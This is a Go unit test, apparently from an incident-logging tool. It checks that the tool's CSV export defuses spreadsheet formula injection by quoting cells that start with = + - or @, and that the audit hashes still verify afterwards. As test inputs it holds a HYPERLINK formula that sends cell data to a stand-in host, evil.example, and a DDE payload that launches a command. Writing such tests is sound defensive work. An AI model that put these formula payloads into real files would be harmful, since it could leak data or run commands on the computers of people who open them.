package journal

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/hallguard/hallguard/devices/clock"
)

// TestCSVExportNeutralisesFormulaCells: a cell that starts with = + - @
// (an incident id or playbook a hostile command named) is exported with a
// leading ', so a spreadsheet shows it instead of running it; the row still
// re-verifies once the guard is dropped (issue #12 §7).
func TestCSVExportNeutralisesFormulaCells(t *testing.T) {
	s, err := Open(filepath.Join(t.TempDir(), "hallguard.db"), Options{Clock: clock.NewFake(t0)})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	hostile := []struct{ incident, playbook string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"open")`, "fire"},
		{"+cmd|' /C calc'!A0", "-2+3"},
		{"@SUM(1+1)", "x"},
		{"'=already quoted", "plain"},
		{"inc-1", "fire"},
	}
	for _, h := range hostile {
		if _, err := s.Append(Record{Kind: "command_rejected", Incident: h.incident, Playbook: h.playbook, Data: json.RawMessage(`{"a":1}`)}); err != nil {
			t.Fatal(err)
		}
	}
	var b bytes.Buffer
	if err := s.ExportCSV(&b, Filter{}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range rows[1:] {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d cell %d %q starts a formula", i+1, j, cell)
			}
		}
		h := hostile[i]
		if unguard(row[3]) != h.incident || unguard(row[4]) != h.playbook {
			t.Errorf("row %d: %q %q do not unguard to %q %q", i+1, row[3], row[4], h.incident, h.playbook)
		}
		if got := auditHash(row[0], row[1], unguard(row[2]), unguard(row[3]), unguard(row[4]), row[5], unguard(row[8]), row[7]); got != row[6] {
			t.Errorf("row %d does not re-verify after Unguard", i+1)
		}
		if row[0] != strconv.Itoa(i+1) {
			t.Errorf("row %d seq %s", i+1, row[0])
		}
	}
	if rows[5][3] != "inc-1" {
		t.Errorf("an ordinary cell was changed: %q", rows[5][3])
	}
}

// unguard is the auditor's rule (ExportCSV): drop one leading ' from a
// cell that matches '+[=+-@\t\r].
func unguard(cell string) string {
	rest := strings.TrimLeft(cell, "'")
	if strings.HasPrefix(cell, "'") && rest != "" && strings.ContainsRune("=+-@\t\r", rune(rest[0])) {
		return cell[1:]
	}
	return cell
}
